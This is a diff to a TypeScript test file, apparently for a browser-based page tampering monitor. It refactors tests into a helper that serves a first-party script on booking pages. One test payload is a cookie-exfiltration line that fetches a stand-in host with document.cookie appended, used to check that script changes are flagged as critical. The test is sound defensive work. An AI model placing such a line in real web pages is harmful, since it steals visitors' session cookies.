@@ -192,42 +192,30 @@ const runBrowser = requireChromium();
     expect(has(findings, "INLINE_SCRIPT_ADDED")).toEqual(["critical"]);
   }, 60_000);
 
+  /** The booking page loads `/assets/site.js`, same-origin (allowed by 'self'), serving `body`. */
+  const firstPartyScript = (body: string): Tampering => ({
+    answer: async (request) =>
+      request.path === "/assets/site.js"
+        ? { status: 200, headers: { "content-type": "text/javascript" }, body: Buffer.from(body) }
+        : undefined,
+    rewrite: (request, answer) =>
+      /^\/book/.test(request.path)
+        ? injectIntoHead(answer, '<script src="/assets/site.js"></script>')
+        : answer,
+  });
+
   it("finds a changed first-party script (critical)", async () => {
     // The shop serves no script of its own: the attacker's loader is same-origin, allowed by 'self'.
-    const { findings: first, runId } = await checkWith({
-      answer: async (request) =>
-        request.path === "/assets/site.js"
-          ? {
-              status: 200,
-              headers: { "content-type": "text/javascript" },
-              body: Buffer.from("/* analytics v1 */"),
-            }
-          : undefined,
-      rewrite: (request, answer) =>
-        /^\/book/.test(request.path)
-          ? injectIntoHead(answer, '<script src="/assets/site.js"></script>')
-          : answer,
-    });
+    const { findings: first, runId } = await checkWith(firstPartyScript("/* analytics v1 */"));
     expect(has(first, "SCRIPT_ADDED")).toEqual(["critical"]);
     // Approving that run makes the script part of the baseline; then its content changes.
     await approveCommand(context, {
       runId,
       reason: "a first-party analytics script was added on purpose",
     });
-    const changed = await checkWith({
-      answer: async (request) =>
-        request.path === "/assets/site.js"
-          ? {
-              status: 200,
-              headers: { "content-type": "text/javascript" },
-              body: Buffer.from("/* analytics v1 */ fetch('//x.invalid/'+document.cookie)"),
-            }
-          : undefined,
-      rewrite: (request, answer) =>
-        /^\/book/.test(request.path)
-          ? injectIntoHead(answer, '<script src="/assets/site.js"></script>')
-          : answer,
-    });
+    const changed = await checkWith(
+      firstPartyScript("/* analytics v1 */ fetch('//x.invalid/'+document.cookie)"),
+    );
     expect(has(changed.findings, "SCRIPT_CHANGED")).toEqual(["critical"]);
     // The script goes away again: the baseline returns to the shop as built.
     const gone = await checkWith(undefined);
